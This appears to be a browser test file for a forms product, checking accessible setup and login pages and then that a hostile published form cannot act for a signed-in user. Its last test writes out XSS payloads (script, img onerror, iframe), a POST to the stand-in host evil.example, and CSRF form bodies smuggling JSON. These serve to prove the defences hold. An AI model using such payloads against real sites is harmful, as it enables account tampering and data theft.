// Signing in with a browser: the first administrator, and the pages in every look.
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { createSetupCode } from '../../../src/product/accounts/setup.ts'
import { newEmail, quiz, TestServer } from '../../support/harness.ts'
import { longTest } from '../../support/long.ts'
import { Person, sessionOf } from '../../support/people.ts'
import { browserTests, DESKTOP, isAccessible } from '../support/browser.ts'

const { open, allowed, troubles } = browserTests()
// The link of the first start exists until there is an administrator, so no other test may sign one in.
const server = new TestServer()
before(async () => {
  await server.start()
  allowed.add(server.url)
})
after(() => server.stop())
const NARROW = { width: 360, height: 740 }

const newSetupLink = async () => {
  const created = await createSetupCode(server.db, new Date())
  assert.ok(created)
  return `${server.url}/setup/${created.code}`
}

longTest(
  'the pages are accessible without a script, narrow and wide, light and dark, in English and German',
  async () => {
    const setup = await newSetupLink()
    for (const [viewport, colorScheme, locale] of [
      [NARROW, 'dark', 'de-AT'],
      [DESKTOP, 'light', 'en-US'],
    ] as const) {
      // axe itself is a script.
      const page = await open(`${server.url}/`, { viewport, colorScheme, locale, bypassCSP: true })
      for (const url of [
        `${server.url}/`,
        `${server.url}/login`,
        `${server.url}/forgot`,
        setup,
        `${server.url}/setup/x`,
      ]) {
        await page.goto(url)
        await isAccessible(page, `${url} ${colorScheme}`)
        const wide = await page.evaluate(() => document.documentElement.scrollWidth > innerWidth)
        assert.ok(!wide, `${url} fits ${viewport.width} px`)
      }
    }
  },
)

test('the link of the first start leads to the console, which shows who is signed in, by keyboard', async () => {
  const page = await open(await newSetupLink(), { viewport: DESKTOP })
  const type = async (label: string, text: string) => {
    await page.keyboard.press('Tab')
    assert.ok(await page.getByLabel(label).evaluate(field => field === document.activeElement), label)
    await page.keyboard.type(text)
  }
  await type('Organization', 'Nordhaus')
  await type('Your name', 'Eva Brandt')
  await type('Email', 'eva@nordhaus.example')
  await type('Password', 'eva@nordhaus.example')
  await page.keyboard.press('Enter')
  const summary = page.getByRole('alert')
  await summary.getByText('not your email address').waitFor()
  assert.ok(await summary.evaluate(element => element === document.activeElement))
  await page.getByLabel('Password').fill('correct horse 9')
  await page.keyboard.press('Enter')
  await page.waitForURL(/\/console\//)
  await page.getByText('Eva Brandt').first().waitFor()
  assert.equal(await page.evaluate(() => document.cookie), '')
  // Another tab, opened by a link from elsewhere, has the session too.
  await page.goto(`${server.url}/login`)
  await page.waitForURL(/\/console/)
})

// The hard case: forms at the host of the console, where browsers send the cookie and `Sec-Fetch-Site: same-origin`.
test('the page of a hostile form does nothing in the name of a creator who opens it', async () => {
  const organization = await server.organization()
  const email = newEmail()
  const { userid } = (await organization.call('POST', '/core/user', { email, password: null })).body
  const alice = new Person(server, userid, email, await sessionOf(server, userid))
  const attack = `fetch('/b/v1/me', { method: 'PATCH', headers: { 'content-type': 'application/json' }, body: '{"firstName":"Eve"}' })`
  const hostile = `<script>${attack}</script><img src="x" onerror="${attack.replaceAll('"', '&quot;')}"><iframe src="/console"></iframe><form action="/b/v1/me/confirm"></form><link rel="stylesheet" href="/b/v1/me">`
  const { url } = await organization.newPublishedForm({
    ...quiz,
    description: hostile,
    questions: quiz.questions.map(question => ({ ...question, text: hostile, description: hostile })),
    scoring: {},
    appType: 'SURVEY',
  })
  const [name = '', value = ''] = alice.cookie.split('=', 2)
  const asked: string[] = []
  const page = await open(url, { viewport: DESKTOP }, async page => {
    await page.context().addCookies([{ name, value, url: server.url }])
    page.on('request', request => asked.push(new URL(request.url()).pathname))
  })
  assert.equal(await page.locator('main :is(script, iframe, img, link), form form').count(), 0)

  // If markup got in all the same, the policy stops scripts and frames, and requests to other hosts.
  await page.evaluate(attack => {
    const script = document.createElement('script')
    script.textContent = attack
    const image = document.createElement('img')
    image.setAttribute('onerror', attack)
    image.src = 'data:,'
    const frame = document.createElement('iframe')
    frame.src = '/console'
    document.body.append(script, image, frame)
    const failed = new Promise(resolve => image.addEventListener('error', resolve, { once: true }))
    return failed
  }, attack)
  const sent = await page.evaluate(() =>
    fetch('https://evil.example/', { method: 'POST', body: 'answers' }).then(
      () => 'sent',
      () => 'refused',
    ),
  )
  assert.equal(sent, 'refused')
  assert.deepEqual(
    asked.filter(path => /^\/(b|console)/.test(path)),
    [],
  )
  const refused = troubles.splice(0).join('\n')
  for (const directive of ['script-src', 'connect-src', 'frame-src|default-src'])
    assert.match(refused, new RegExp(directive))

  // Forms need no script. The API takes none of their kinds of body.
  for (const type of ['application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data']) {
    await page.goto(url)
    const reply = page.waitForResponse(response => response.url().endsWith('/b/v1/me/confirm'))
    await page.evaluate(type => {
      const form = document.createElement('form')
      Object.assign(form, { method: 'post', action: '/b/v1/me/confirm', enctype: type })
      form.innerHTML = '<input name=\'{"password":"correct horse 9","x":"\' value=\'"}\'>'
      document.body.append(form)
      form.submit()
    }, type)
    const answer = await reply
    await page.waitForURL('**/b/v1/me/confirm')
    assert.equal(
      (await answer.request().allHeaders())['cookie'],
      alice.cookie,
      'the browser sends the cookie',
    )
    assert.equal(answer.status(), 415, type)
  }
  assert.equal((await alice.call('GET', '/me')).body.user.firstName, undefined)
})
